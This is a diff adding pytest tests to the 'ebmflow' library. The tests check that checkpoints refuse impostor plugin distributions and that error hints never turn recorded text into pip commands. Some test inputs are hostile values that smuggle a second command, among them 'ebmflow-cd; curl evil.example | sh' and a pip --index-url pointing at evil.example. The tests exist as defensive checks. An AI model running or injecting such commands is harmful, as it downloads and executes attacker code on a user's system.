@@ -11,11 +11,13 @@ from __future__ import annotations
 import json
 import subprocess
 import sys
+from pathlib import Path
 
 import pytest
 import torch
 
 import ebmflow
+from ebmflow.errors import CheckpointError
 
 _HAS_CD = any(c.name == "cd" for c in ebmflow.components("objective"))
 
@@ -235,6 +237,135 @@ def test_plugin_name_claimed_by_two_distributions_loads_neither(fake_site):
     by_dist = {c["distribution"]: c for c in listed["bowls"]}
     assert by_dist["fake-owner"]["status"] == "ok"
     assert by_dist["fake-impostor"]["status"] == "disabled"
+
+
+def _load_report(site, path: Path, **env: str) -> str:
+    result = site.python(f"""
+        import warnings
+        import ebmflow
+        warnings.simplefilter("ignore", ebmflow.PluginWarning)
+        try:
+            energy = ebmflow.load({str(path)!r})
+        except ebmflow.CheckpointError as exc:
+            print("CheckpointError:", exc)
+        else:
+            print("loaded", type(energy).__module__)
+    """, **env)
+    assert result.returncode == 0, result.stderr
+    return result.stdout.strip()
+
+
+def test_checkpoint_is_never_rebuilt_with_another_distributions_plugin(fake_site, tmp_path):
+    owner_site(fake_site, impostor=True)
+    path = tmp_path / "bowl"
+    saved = fake_site.python(f"""
+        import ebmflow
+        ebmflow.save(ebmflow.create("energy", "bowls:bowl"), {str(path)!r})
+    """, EBMFLOW_BLOCK_PLUGINS="fake-impostor")
+    assert saved.returncode == 0, saved.stderr
+    config = json.loads((path / "config.json").read_text())
+    assert (config["plugin"], config["distribution"]) == ("bowls", "fake-owner")
+
+    assert _load_report(fake_site, path, EBMFLOW_BLOCK_PLUGINS="fake-impostor") == (
+        "loaded owner_bowls")
+    # only the impostor loads: refused, naming both distributions
+    report = _load_report(fake_site, path, EBMFLOW_BLOCK_PLUGINS="fake-owner")
+    assert report.startswith("CheckpointError: ")
+    assert ("the checkpoint needs energy 'bowls:bowl' from distribution 'fake-owner', but "
+            "plugin 'bowls' is provided by distribution 'fake-impostor' 1.0") in report
+    # both installed: neither is loaded, so the checkpoint is refused too
+    report = _load_report(fake_site, path)
+    assert report.startswith("CheckpointError: ")
+    assert "claimed by 2 distributions: fake-impostor 1.0, fake-owner 1.0" in report
+
+
+@pytest.mark.skipif(not _HAS_CD, reason="ebmflow-cd (objective cd) is not installed")
+def test_a_distribution_naming_its_plugin_cd_cannot_serve_ebmflow_cd_checkpoints(
+    fake_site, tmp_path
+):
+    path = tmp_path / "cd"
+    ebmflow.save(ebmflow.create("objective", "cd", sampler="langevin"), path)
+    assert json.loads((path / "config.json").read_text())["distribution"] == "ebmflow-cd"
+    impostor = ("import ebmflow\n\n@ebmflow.hookimpl\ndef ebmflow_objectives():\n"
+                "    return [ebmflow.Component('cd', 'ebmflow_cd.cd:ContrastiveDivergence')]\n")
+    fake_site.add("evil-cd", {"cd": "evil_cd"}, {"evil_cd.py": impostor}, version="6.6")
+
+    listed = plugins_by_name(fake_site.run("plugins", "--json"))
+    assert {c["distribution"]: c["status"] for c in listed["cd"]} == {
+        "ebmflow-cd": "failed", "evil-cd": "failed"}
+    report = _load_report(fake_site, path)
+    assert "claimed by 2 distributions" in report and "evil-cd 6.6" in report
+    report = _load_report(fake_site, path, EBMFLOW_BLOCK_PLUGINS="ebmflow-cd")
+    assert "from distribution 'ebmflow-cd', but plugin 'cd' is provided by distribution " \
+           "'evil-cd' 6.6" in report
+
+
+# -- an alias of another plugin's class ---------------------------------------------------
+
+
+def test_saving_records_the_owner_of_a_class_not_a_plugin_that_aliases_it(fake_site, tmp_path):
+    owner_site(fake_site, impostor=False)
+    alias = ("import ebmflow\nfrom ebmflow import Component\n\n@ebmflow.hookimpl\n"
+             "def ebmflow_energies():\n"
+             "    return [Component('a-mlp', 'ebmflow.energies.mlp:MLPEnergy'),\n"
+             "            Component('a-bowl', 'owner_bowls:Bowl')]\n")
+    fake_site.add("fake-alias", {"aaa": "aaa_alias"}, {"aaa_alias.py": alias})
+    saved = fake_site.python(f"""
+        import ebmflow
+        ebmflow.save(ebmflow.create("energy", "mlp", dim=2), {str(tmp_path / 'mlp')!r})
+        ebmflow.save(ebmflow.create("energy", "bowl"), {str(tmp_path / 'bowl')!r})
+    """)
+    assert saved.returncode == 0, saved.stderr
+    mlp = json.loads((tmp_path / "mlp" / "config.json").read_text())
+    bowl = json.loads((tmp_path / "bowl" / "config.json").read_text())
+    assert (mlp["plugin"], mlp["name"], mlp["distribution"]) == ("ebmflow", "mlp", "ebmflow")
+    assert (bowl["plugin"], bowl["name"], bowl["distribution"]) == (
+        "bowls", "bowl", "fake-owner")
+    # and so the MLP loads where the alias plugin is not installed
+    assert isinstance(ebmflow.load(tmp_path / "mlp"), ebmflow.MLPEnergy)
+
+
+# -- the missing-plugin hint --------------------------------------------------------------
+
+
+def _with_record(path: Path, **changes) -> None:
+    config = json.loads((path / "config.json").read_text())
+    config.update(changes)
+    (path / "config.json").write_text(json.dumps(config))
+
+
+@pytest.mark.parametrize("distribution", [
+    "ebmflow-cd --index-url https://evil.example/simple",
+    "ebmflow-cd==1.0",
+    "ebmflow-cd; curl evil.example | sh",
+    "-r requirements.txt",
+    "ebmflow-cd\nebmflow: error: nothing",
+    "",
+])
+def test_missing_plugin_hint_never_puts_recorded_text_into_a_pip_command(
+    tmp_path, distribution
+):
+    path = tmp_path / "gmm"
+    ebmflow.save(ebmflow.GMMEnergy.ring(), path)
+    _with_record(path, plugin="gone", distribution=distribution)
+    with pytest.raises(CheckpointError) as caught:
+        ebmflow.load(path)
+    message = str(caught.value)
+    assert "pip" not in message
+    assert "\n" not in message
+    assert (f"the checkpoint records distribution {distribution!r}, which is not a valid "
+            f"distribution name") in message
+
+
+@pytest.mark.parametrize("distribution", ["ebmflow-gone", "Ebmflow_Gone.2", "x"])
+def test_missing_plugin_hint_names_a_valid_distribution_to_install(tmp_path, distribution):
+    path = tmp_path / "gmm"
+    ebmflow.save(ebmflow.GMMEnergy.ring(), path)
+    _with_record(path, plugin="gone", distribution=distribution, plugin_version="2.0")
+    with pytest.raises(CheckpointError, match=f"install it: pip install {distribution} "
+                                              rf"\(the checkpoint was written with "
+                                              rf"{distribution} 2\.0\)"):
+        ebmflow.load(path)
 
 
 # -- plugin side effects on the caller ----------------------------------------------------
